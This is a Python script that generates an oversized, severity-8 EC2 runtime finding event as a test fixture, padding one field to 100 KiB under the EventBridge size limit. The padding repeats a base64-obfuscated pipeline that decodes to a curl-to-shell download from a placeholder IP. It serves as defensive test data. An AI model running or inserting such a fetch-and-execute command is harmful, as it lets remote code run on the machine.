#!/usr/bin/env python3
"""Regenerates hostile-large-command-line.json (run from anywhere; writes next to this script).

Takes ec2-persistence-suspicious-command.json as the template, gives it its own finding id, event id and
instance id, raises severity to 8, and fills runtimeDetails.context.commandLineExample with exactly
100 KiB (102400 ASCII characters) of a repeated shell pipeline. The whole envelope must stay under the
256 KB EventBridge limit; the script asserts that.
"""
import hashlib, json, os

HERE = os.path.dirname(os.path.abspath(__file__))
NAME = "hostile-large-command-line"
SIZE = 100 * 1024
LIMIT = 256 * 1024

with open(os.path.join(HERE, "ec2-persistence-suspicious-command.json")) as f:
    ev = json.load(f)

d = ev["detail"]
fid = hashlib.md5(("finding:" + NAME).encode()).hexdigest()
eid = hashlib.md5(("event:" + NAME).encode()).hexdigest()
ev["id"] = f"{eid[:8]}-{eid[8:12]}-5{eid[13:16]}-a{eid[17:20]}-{eid[20:32]}"
d["id"] = fid
d["arn"] = d["arn"].rsplit("/", 1)[0] + "/" + fid
d["severity"] = 8
old_iid = d["resource"]["instanceDetails"]["instanceId"]
new_iid = "i-0e1f2a3b4c5d6e7f8"
d["resource"]["instanceDetails"]["instanceId"] = new_iid
d["title"] = d["title"].replace(old_iid, new_iid)
d["description"] = d["description"].replace(old_iid, new_iid)

unit = "echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo | base64 -d | sh; "
head = "bash -c '"
body = (unit * (SIZE // len(unit) + 1))
cmd = (head + body)[: SIZE - 1] + "'"
assert len(cmd) == SIZE
d["service"]["runtimeDetails"]["context"] = {"commandLineExample": cmd}

text = json.dumps(ev, indent=2, ensure_ascii=True) + "\n"
assert len(text.encode()) < LIMIT, len(text.encode())
with open(os.path.join(HERE, NAME + ".json"), "w") as f:
    f.write(text)
print(f"{NAME}.json: {len(text.encode())} bytes, commandLineExample {len(cmd)} chars")
